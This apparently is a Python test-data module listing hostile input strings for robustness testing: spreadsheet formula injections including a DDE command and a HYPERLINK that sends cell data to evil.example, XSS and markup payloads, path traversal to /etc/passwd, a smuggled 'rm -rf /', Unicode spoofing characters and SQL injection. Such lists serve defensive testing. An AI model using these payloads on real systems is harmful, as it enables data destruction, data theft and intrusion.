"""What a name, an address or a wording may contain: everything that some program on the way could take for an order."""

FORMULAS = [f"{sign}{rest}" for sign in ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "'=", "\"=")
            for rest in ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example/?\"&A1)", "IMPORTXML(\"x\")",
                         "DDE(\"cmd\")")]  # fmt: skip
MARKUP = [
    "<b>太字</b>", "</b>", "A<B", "<", ">", "&", "&amp;", "&#x3c;", "<br/>", "<para>", "<font color=red>赤</font>",
    "<img src='file:///etc/passwd'/>", "<img src=\"http://evil.example/x.png\">", "<a href='http://evil.example'>x</a>",
    "<script>alert(1)</script>", "<style>*{}</style>", "<table><tr><td>x", "<!-- ", "-->", "<![CDATA[x]]>", "]]>",
    "<?xml version='1.0'?>", "<!DOCTYPE x>", "<html><body><h1>題</h1>", "<p dir=rtl>x", "<object data=x>",
    "<svg onload=x>", "{{x}}", "{0}", "{name}", "%s", "%n", "%1", "${x}", "$(x)", "`x`", "\\n", "\\u0041", "\\\\",
    "<seq id='x'/>", "<onDraw name=x/>", "<unichar code=65/>", "<super>2</super>", "<greek>a</greek>",
]  # fmt: skip
PATHS = ["../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "file:///etc/passwd", "~/.ssh", "CON", "a/b",
         "nul.txt", "a\\b", "x;rm -rf /", "x|y", "x&&y", "x\0y"]  # fmt: skip
# Written as escapes, so that this file shows what it holds.
WRITING = [
    "\u202egpj.exe", "a\u202ab\u202c", "\u2066x\u2069", "\u200fx", "\u061cx", "x\u200by", "\ufeffx", "x\x00y", "x\x07y",
    "x\x1b[31my", "x\x7fy", "x\x85y", "x\u2028y", "x\ny", "x\ry", "x\r\ny", "x\ty", "\u9ad9\U000e0100橋",
    "神\U000e0100田", "\ue000外字", "\U00020bb7野家", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "e\u0301", "\xe9", "\uff8a\uff9f", "\u30cf\u309a", "\ufdfa", "\ufb01", "\u210c", "①",
    "㈱佐藤", "髙﨑", "\u3000", " ", "", "あ" * 300, "W" * 300, "i" * 1000,
    "\u0e01" + "\u0e47" * 9, "Z\u0351\u036b\u0343a\u0334l\u0356",
]  # fmt: skip
SQL = ["'; DROP TABLE cases; --", "' OR '1'='1", "\"; --", "x' UNION SELECT 1 --", "%", "_", "%%%%", "\\%", "[x]", "*"]
ALL = [*FORMULAS, *MARKUP, *PATHS, *WRITING, *SQL]
